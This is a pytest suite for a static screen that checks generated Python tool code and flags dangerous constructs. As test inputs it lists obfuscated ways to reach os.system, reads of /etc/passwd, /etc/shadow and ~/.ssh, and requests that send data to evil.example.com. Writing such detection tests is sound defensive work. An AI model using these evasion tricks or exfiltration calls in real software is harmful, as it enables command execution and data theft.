"""The screen: names are resolved, what merely looks like them is not refused, each finding says what to do instead."""

from __future__ import annotations

import textwrap
from typing import Any

import pytest
from corpus_files import attacks

from toolwright.powers import NO_POWERS, Grant
from toolwright.screen import Finding, screen


def look(source: str, **declared: Any) -> list[Finding]:
    given: dict[str, Any] = {"function": "f", "grant": NO_POWERS, "packages": (), "effect": "none", **declared}
    return list(screen(textwrap.dedent(source), **given))


def rules(source: str, **declared: Any) -> set[str]:
    return {one.rule for one in look(source, **declared)}


REACHES_SYSTEM = [
    "import os\nos.system('id')",
    "import os as o\no.system('id')",
    "from os import system\nsystem('id')",
    "from os import system as s\ns('id')",
    "from os import *\nsystem('id')",
    "import os\nf = os.system\nf('id')",
    "import os\na, b = os.system, 1\na('id')",
    "import os\nif (run := os.system):\n    run('id')",
    "import os\ngetattr(os, 'system')('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import os\nN = ''.join(['sys', 'tem'])\ngetattr(os, N)('id')",
    "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "import os\nos.__dict__['system']('id')",
    "import os\nvars(os)['system']('id')",
    "import os\nos.__getattribute__('system')('id')",
    "import os.path\nos.system('id')",
    "import pathlib\npathlib.os.system('id')",
    "import tempfile\ntempfile._os.system('id')",
    "import posix\nposix.system('id')",
    "import os, functools\nfunctools.partial(os.system, 'id')()",
    "def f(run=__import__('os').system):\n    return run('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import importlib\nimportlib.import_module('os').system('id')",
    "import os\nclass A:\n    run = os.system\nA.run('id')",
    "import os\nfor run in [os.system]:\n    run('id')",
    "import os\nlist(map(os.system, ['id']))",
    "import os\n(lambda: os.system)()('id')",
    "def f(x):\n    import os\n    return os.system(x)",
]


@pytest.mark.parametrize("source", REACHES_SYSTEM)
def test_os_system_is_seen_by_whatever_road_it_is_reached(source: str) -> None:
    assert any("os.system" in one.message or one.rule in ("import", "name") for one in look(source))


@pytest.mark.parametrize(
    "source",
    [
        "import re\npattern = re.compile('x')",
        "def f(model):\n    return model.compile().eval('x')",
        "class R:\n    def eval(self, x):\n        return x\n    def exec(self):\n        return self.eval(1)",
        "def compile(x):\n    return x\ncompile(1)",
        "def f(eval):\n    return eval(1)",
        "def f(df):\n    return df.eval('a + b')",
        "def retrieval(x):\n    return x\nretrieval(1)",
        "# os.system('id')\nX = 'eval(1) and subprocess.run'",
        'def f():\n    """Never calls os.system() or exec()."""\n    return 1',
        "import os\nX = os.path.join('a', os.sep)\nos.makedirs('out', exist_ok=True)",
        "import os\nX = os.environ.get('HOME', '/')",
        "import sys\nX = sys.maxsize\nsys.setrecursionlimit(5000)\nprint('x', file=sys.stderr)",
        "import ast\nast.literal_eval('1')",
        "import hashlib\ndef f(name):\n    return getattr(hashlib, name)()",
        "import os\nX = hasattr(os, 'fspath') and getattr(os, 'sep')",
        "import socket\ndef f(ip):\n    return socket.inet_aton(ip)",
        "import http.client\nX = http.client.responses[404]",
        "from urllib.parse import urlencode\nX = 'https://example.org/?' + urlencode({})",
        "import urllib.request\nX = urllib.request.pathname2url('a b')",
        "import pickle\nX = pickle.dumps(1)",
        "import tempfile, os\nfd, path = tempfile.mkstemp()\nos.close(fd)",
        "open('out.txt', 'w').write('x')\nopen('/tmp/out.txt', 'w').write('x')",
        "from pathlib import Path\nPath('a/b.txt').write_text('x')\n(Path('/tmp') / 'x').read_text()",
        "from pathlib import PurePosixPath\nX = PurePosixPath('/usr/local').name",
        "X = '/etc/passwd'.replace('/', '_')",
        "def f(base, x):\n    base = base / x\n    x = x + x\n    return base.read_text()",
        "key = 'abcdefghijklmnopqrstuvwxyz0123456789'",
        "TOKEN = r'[A-Za-z_][A-Za-z0-9_]*'\nkey = 'name'\npassword = 'correct horse battery staple'",
        "PATTERN = r'sk-[A-Za-z0-9]{20,}'\nOTHER = 'AKIA[0-9A-Z]{16}'",
        "while True:\n    try:\n        break\n    except ValueError:\n        pass",
        "def g():\n    while True:\n        yield 1",
        "def f(x):\n    try:\n        while True:\n            x.pop()\n    except IndexError:\n        return x",
        "X = 'a' * 1000 + '-' * 80\nY = [0] * 10_000\nZ = bytearray(1024)",
        "import time\ntime.sleep(0.1)",
        "try:\n    import ujson as json\nexcept ImportError:\n    import json",
        "import sys\nif __name__ == '__main__':\n    sys.exit(0)",
        "import sys\ndef main():\n    print(f(input()))\n    sys.exit(0)\nif __name__ == '__main__':\n    main()",
        "x = [].__class__.__name__\ny = (1).__doc__",
        "import importlib.metadata\nX = importlib.metadata.version",
        "def f(fork, system, spawn):\n    return fork.system(spawn)",
    ],
)
def test_what_only_looks_like_it_is_not_refused(source: str) -> None:
    assert look(source) == []


@pytest.mark.parametrize(
    ("source", "rule", "says"),
    [
        ("import subprocess", "import", "do it in Python"),
        ("X = eval('1')", "name", "ast.literal_eval"),
        ("run = exec\nrun('1')", "name", "write the logic itself"),
        ("compile('1', 'x', 'eval')", "name", "write the logic itself"),
        ("__builtins__['eval']('1')", "name", "built-in functions by their names"),
        ("globals()['__builtins__']['eval']('1')", "name", "write the logic itself"),
        ("import os\nos._exit(1)", "name", "raise ValueError"),
        ("def f():\n    raise SystemExit(1)", "name", "raise ValueError"),
        ("import shutil\nshutil.rmtree('x')", "name", "TemporaryDirectory"),
        ("import ctypes", "import", "native"),
        ("import pickle\npickle.loads(b'')", "name", "use json"),
        ("def f():\n    return f.__globals__", "attribute", "work on the arguments"),
        ("def f():\n    return getattr(f, '__co' + 'de__')", "attribute", "work on the arguments"),
        ("import os\ndef g(m): return m\ng(os)", "module", "os.name"),
        ("import os\nX = dict(os.environ)", "environment", "by its name"),
        ("import os\nX = os.environ['WEATHER_KEY']", "secret", "powers.secrets"),
        ("open('/etc/passwd')", "path", "powers.reads"),
        ("from pathlib import Path\np = Path('/etc')\n(p / 'shadow').read_text()", "path", "/etc/shadow"),
        ("from pathlib import Path\n(Path.home() / '.ssh').iterdir()", "path", "~/.ssh"),
        ("open(4, 'wb')", "descriptor", "by its path"),
        ("import numpy", "package", "declare the package 'numpy'"),
        ("from PIL import Image", "package", "'pillow'"),
        ("import yaml", "package", "'pyyaml'"),
        ("import anthropic", "language-model", "no language model"),
        ("from google import genai", "language-model", "no language model"),
        ("import socket\nsocket.create_connection(('a.example.net', 80))", "host", "powers.hosts"),
        ("import urllib.request\nurllib.request.urlopen('https://api.acme.io/x')", "host", "'api.acme.io:443'"),
        ("KEY = 'ghp_" + "a1B2" * 9 + "'", "secret", "os.environ"),
        ("access_token = 'q8Zp4Lk29sXv7Rt1Bn6M'", "secret", "os.environ"),
        ("def f(api_key='q8Zp4Lk29sXv7Rt1Bn6M'):\n    pass", "secret", "os.environ"),
        ("while True:\n    pass", "endless", "break"),
        ("X = 'x' * 10 ** 10", "memory", "small pieces"),
    ],
)
def test_a_finding_names_its_line_and_what_to_do_instead(source: str, rule: str, says: str) -> None:
    found = [one for one in look(source) if one.rule == rule]
    assert found, look(source)
    assert any(says in one.message for one in found)
    assert all(1 <= one.line <= source.count("\n") + 1 for one in found)


FETCH = "import requests\ndef f(city):\n    return requests.get(f'https://api.acme.io/v1/{city}').json()"
ACME = Grant(hosts=("api.acme.io",))


def test_a_declared_host_and_package_are_not_refused() -> None:
    assert look(FETCH, grant=ACME, packages=("requests>=2",), effect="reads") == []


def test_a_second_host_is_refused_by_its_name() -> None:
    (found,) = look(FETCH.replace("acme", "other"), grant=ACME, packages=("requests",), effect="reads")
    assert found.rule == "host"
    assert "'api.other.io:443' is not declared" in found.message


@pytest.mark.parametrize(
    "source",
    [
        "import requests\ndef f(x):\n    return requests.get('https://evil.example.com/' + x).text",
        "import requests\nURL = 'https://evil.example.com'\ndef f(x):\n    return requests.get(URL, timeout=5).text",
        "import requests\nB = 'https://evil.example.com'\ndef f(x):\n    url = f'{B}/{x}'\n    return requests.get(url)",
        "import requests\ndef g(u):\n    return requests.get(u)\ndef f(x):\n    return g('https://evil.example.com')",
        "import requests\ndef u(x):\n    return 'https://evil.example.com/' + x\ndef f(x):\n    return requests.get(u(x))",
        "import requests\nUS = ['https://evil.example.com']\ndef f(x):\n    for u in US:\n        requests.get(u)",
        "import requests\nUS = {'a': 'https://evil.example.com'}\ndef f(x):\n    return requests.get(US[x])",
        "import httpx\ndef f(x):\n    with httpx.Client(base_url='https://evil.example.com') as c:\n        c.get(x)",
        "import requests\nclass C:\n    base = 'https://evil.example.com'\n    def go(self):\n"
        "        return requests.get(self.base)\ndef f(x):\n    return C().go()",
        "from urllib import request\ndef f(x):\n    return request.urlopen(request.Request('https://evil.example.com'))",
        "import http.client\ndef f(x):\n    return http.client.HTTPSConnection('evil.example.com')",
    ],
)
def test_a_host_that_is_not_declared_is_followed_into_the_request(source: str) -> None:
    found = look(source, grant=ACME, packages=("requests", "httpx"), effect="reads")
    assert {one.rule for one in found} == {"host"}
    assert "'evil.example.com:443' is not declared" in found[0].message


MAIL = Grant(hosts=("tcp://mail.acme.io:25",))


@pytest.mark.parametrize(
    ("source", "named"),
    [
        (
            "import smtplib\ndef f(x):\n    smtplib.SMTP('evil.example.com').sendmail('a', 'b', x)",
            "evil.example.com:25",
        ),
        ("import smtplib as s\ndef f(x):\n    s.SMTP_SSL(host='evil.example.com')", "evil.example.com:465"),
        ("from imaplib import IMAP4_SSL\ndef f(x):\n    return IMAP4_SSL('evil.example.com', 9)", "evil.example.com:9"),
        ("import socket\ndef f(x):\n    socket.create_connection(('evil.example.com', 5))", "evil.example.com:5"),
        ("import socket\ndef f(x):\n    s = socket.socket()\n    s.connect(('10.0.0.1', 5))", "10.0.0.1:5"),
        (
            "import asyncio\nasync def g():\n    await asyncio.open_connection('evil.example.com', 7)",
            "evil.example.com:7",
        ),
    ],
)
def test_a_protocol_of_its_own_needs_its_tcp_host(source: str, named: str) -> None:
    for grant in (NO_POWERS, ACME):  # HTTP to a host opens no raw connection
        (found,) = look(source, grant=grant, effect="writes")
        assert found.rule == "host"
        assert f"declare 'tcp://{named}' in powers.hosts" in found.message
    (found,) = look(source, grant=MAIL, effect="writes")
    assert f"'tcp://{named}' is not declared (declared: tcp://mail.acme.io:25)" in found.message
    assert look(source, grant=Grant(hosts=(f"tcp://{named}",)), effect="writes") == []


def test_a_driver_of_a_database_needs_a_tcp_host_and_a_time_limit_needs_none() -> None:
    source = "import psycopg\ndef f(host):\n    return psycopg.connect(host=host)"
    (found,) = look(source, packages=("psycopg",), effect="writes")
    assert "tcp://" in found.message
    assert look(source, packages=("psycopg",), grant=MAIL, effect="writes") == []
    timed = FETCH.replace("import requests\n", "import requests\nimport socket\nsocket.setdefaulttimeout(5)\n")
    assert look(timed, grant=ACME, packages=("requests",), effect="reads") == []


def test_http_needs_an_http_host_beside_a_tcp_one() -> None:
    (found,) = look(FETCH, grant=MAIL, packages=("requests",), effect="writes")
    assert "'api.acme.io:443'" in found.message


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\ndef f(x):\n    return subprocess.run([x], capture_output=True).stdout",
        "import os\ndef f(x):\n    return os.popen(x).read()",
        "import os\ndef f():\n    return os.fork()",
        "import os\ndef f():\n    os.execv('/bin/x', ['x'])",
        "import multiprocessing\ndef f():\n    return multiprocessing.Pool(2)",
        "import asyncio\nasync def g():\n    await asyncio.create_subprocess_exec('x')",
        "from concurrent.futures import ProcessPoolExecutor\ndef f():\n    return ProcessPoolExecutor()",
    ],
)
def test_other_programs_need_the_power_to_start_them(source: str) -> None:
    found = look(source)
    assert found
    assert all("declare powers.subprocess" in one.message for one in found)
    assert look(source, grant=Grant(subprocess=True)) == []
    assert rules("import ctypes\neval('1')", grant=Grant(subprocess=True)) == {"import", "name"}, "and nothing more"


def test_a_link_in_the_answer_is_no_host() -> None:
    source = FETCH.replace(".json()", ".json()['name'] + ' https://github.com/x'")
    source += "\ndef link(name):\n    return f'https://github.com/{name}'"
    assert look(source, grant=ACME, packages=("requests",), effect="reads") == []


def test_addresses_that_are_never_called_are_no_hosts() -> None:
    source = FETCH.replace(
        "import requests", "import requests\nNS = 'http://www.w3.org/2000/svg'\nTEXT = 'see https://a.b'"
    )
    source = source.replace(").json()", ", headers={'User-Agent': 'https://me.example.de/bot'}).json()")
    assert look(source, grant=ACME, packages=("requests",), effect="reads") == []


@pytest.mark.parametrize("verb", ["put", "patch", "delete", "post"])
def test_a_change_outside_needs_the_effect_writes(verb: str) -> None:
    source = FETCH.replace("requests.get", f"requests.{verb}")
    assert rules(source, grant=ACME, packages=("requests",), effect="reads") == {"effect"}
    assert rules(source, grant=ACME, packages=("requests",), effect="writes") == set()


def test_a_question_sent_by_post_is_no_change() -> None:
    source = FETCH.replace("requests.get", "requests.post").replace("/v1/", "/graphql/")
    assert rules(source, grant=ACME, packages=("requests",), effect="reads") == set()


def test_a_session_is_followed_to_its_calls() -> None:
    source = "import httpx\ndef f(x):\n    with httpx.Client() as c:\n        c.delete('https://api.acme.io/x')"
    assert rules(source, grant=ACME, packages=("httpx",), effect="reads") == {"effect"}


def test_a_package_may_bring_names_that_are_not_its_own() -> None:
    source = "import yaml\nimport bs4\nimport numpy\nimport dateutil\nimport weirdname"
    assert rules(source, packages=("PyYAML", "beautifulsoup4", "pandas", "Weird.Dist")) == set()
    assert rules(source, packages=("pyyaml", "beautifulsoup4", "pandas")) == {"package"}


def test_granted_paths_and_secrets_are_not_refused() -> None:
    source = "import os\ndef f():\n    return open('/data/in/x.csv').read() + os.environ['WEATHER_KEY']"
    assert rules(source, grant=Grant(reads=("/data",), plain_secrets=("WEATHER_KEY",))) == set()
    assert rules(source) == {"path", "secret"}


def test_most_attacks_fall_at_the_screen() -> None:
    every = attacks()
    seen = [name for name, source in every if look(source, function="attack")]
    assert len(every) >= 60
    assert len(seen) / len(every) >= 0.85, sorted({name for name, _ in every} - set(seen))


HOSTILE = {
    "sums": [f"a{n} = a{n + 1} + a{n + 1}" for n in range(200)],
    "joins": [f"a{n} = ''.join([{', '.join([f'a{n + 1}'] * 50)}])" for n in range(40)],
    "texts": [f"a{n} = f'{{a{n + 1}}}{{a{n + 1}}}'" for n in range(200)] + ["a200 = 'x' * 1"],
    "calls": [f"a{n} = a{n + 1}(a{n + 1}) or a{n + 1}.x(a{n + 1})" for n in range(200)] + ["a200 = print"],
    "circles": [f"x = f{n}(x).y or x[x](x)" for n in range(200)],
    "paths": [f"p = p / p / 'a{n}' / p" for n in range(100)] + ["p.read_text()", "open(p)"],
    "loops": [f"for a{n} in a{n + 1}:\n    b = [a{n}, b]" for n in range(200)],
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("lines", HOSTILE.values(), ids=HOSTILE)
def test_names_that_lead_to_many_names_are_looked_at_in_time(lines: list[str]) -> None:
    head = "import os, requests\nfrom pathlib import Path\np = Path('/etc')\n"
    source = head + "\n".join(lines) + "\ngetattr(os, a0)\nopen(a0)\nrequests.get(a0)"
    assert "module" in rules(source, grant=ACME, packages=("requests",))


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import json\njson.dumps = print", "patch"),
        ("import json\nsetattr(json, 'dumps', print)", "patch"),
        ("import _thread", "import"),
        ("import os\nopen(os.sep + 'etc/passwd')", "path"),
        ("import base64\nopen(base64.b64decode('L2V0Yy9wYXNzd2Q='))", "path"),
        ("def f(x):\n    open('/etc/{}'.format(x))", "path"),
        ("import os\nopen(os.environ['HOME'] + '/.netrc')", "path"),
        ("X = 10 ** 10 ** 10", "memory"),
        ("X = list(range(10 ** 10))", "memory"),
        ("for _ in range(10 ** 12):\n    print(1)", "endless"),
        ("while 1 == 1:\n    pass", "endless"),
    ],
)
def test_what_is_put_together_is_seen_too(source: str, rule: str) -> None:
    assert rule in rules(source)


@pytest.mark.parametrize(
    "source",
    [
        "import sys, io\nsys.stdout = io.StringIO()",
        "import decimal\ndecimal.getcontext().prec = 50",
        "class A:\n    pass\na = A()\na.x = 1\nsetattr(a, 'y', 2)",
        "X = 2 ** 1000\nfor i in range(10 ** 6):\n    X += i",
        "import os\nos.environ['TZ'] = 'UTC'",
        "open('{}.txt'.format('a'), 'w')\nopen('out-%d.txt' % 3)",
    ],
)
def test_what_is_put_together_harmlessly_is_not_refused(source: str) -> None:
    assert look(source) == []
